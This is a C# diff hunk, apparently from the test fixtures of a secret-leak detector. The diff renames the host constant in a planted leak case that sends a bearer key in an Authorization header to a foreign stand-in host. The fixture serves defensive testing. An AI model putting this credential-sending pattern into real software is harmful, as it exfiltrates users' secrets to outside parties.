@@ -78,7 +78,7 @@ internal sealed record PlantedLeak(LeakChannel Channel, Secret Secret, Func<Leak
         ["header to a foreign host"] = OnWire(
             Secret.Key,
             HttpMethod.Get,
-            $"https://{LeakService.ForeignHost}/",
+            $"https://{LeakService.OtherHost}/",
             request => request.Headers.Add("Authorization", "Bearer " + Key)),
         ["header to the storage host"] = OnWire(
             Secret.Key, HttpMethod.Put, Address, request => request.Headers.Add("Authorization", "Bearer " + Key)),
